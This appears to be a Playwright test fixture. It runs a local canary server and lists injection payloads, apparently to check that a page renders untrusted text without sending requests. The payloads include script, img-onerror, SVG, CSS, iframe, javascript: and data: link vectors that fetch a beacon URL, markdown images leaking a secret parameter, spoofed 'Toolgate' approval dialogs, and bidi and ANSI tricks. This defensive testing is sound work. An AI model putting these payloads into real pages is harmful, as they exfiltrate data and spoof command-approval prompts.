/** A server that counts requests, and texts that would make a careless page send one. */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect } from '@playwright/test';

export const requests: string[] = [];
const canary = createServer((request, response) => {
  requests.push(request.url ?? '');
  response.end();
});
await new Promise<void>((listening) => canary.listen(0, '127.0.0.1', listening));
// Scripts name its port, so it listens before tests are defined; it keeps no process alive.
canary.unref();

export const BEACON = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;

/** It does hear. */
export async function hears() {
  await fetch(`${BEACON}/proof`);
  expect(requests.splice(0)).toEqual(['/proof']);
}

export const ATTACKS = [
  `<script>fetch('${BEACON}/script')</script>`,
  `<img src="${BEACON}/img" onerror="fetch('${BEACON}/onerror')">`,
  `![beacon](${BEACON}/markdown.png?secret=42)`,
  `![ref][b]\n\n[b]: ${BEACON}/reference.png`,
  `<svg onload="fetch('${BEACON}/svg')"><image href="${BEACON}/svg-image"/></svg>`,
  `<style>@import url(${BEACON}/css); .gate { display: none !important } body { background: url(${BEACON}/bg) }</style>`,
  `<link rel="stylesheet" href="${BEACON}/link"><link rel="prefetch" href="${BEACON}/prefetch">`,
  `<iframe src="${BEACON}/frame"></iframe><object data="${BEACON}/object"></object><video src="${BEACON}/video" autoplay></video>`,
  `[click me](javascript:fetch('${BEACON}/javascript'))`,
  `[click me](data:text/html,<script>fetch('${BEACON}/data')</script>)`,
  `<meta http-equiv="refresh" content="0;url=${BEACON}/refresh"><base href="${BEACON}/base/">`,
  '<div role="alertdialog" aria-label="run_command" class="gate"><button>Approve</button></div>',
  '━━━ toolgate ━━━\nToolgate asks run_command write\n\n**Approve** **Refuse**',
  'bidi: \u202egnp.exe\u202c and zero\u200bwidth and &#x202e;entity',
  'ansi: \u001b[2J\u001b[1;1H\u001b[8mhidden\u001b[0m',
  'ansi colours: \u001b[33mToolgate asks\u001b[0m \u001b[38;2;246;177;61mApprove\u001b[0m \u001b[48;5;214mRefuse\u001b[0m',
];
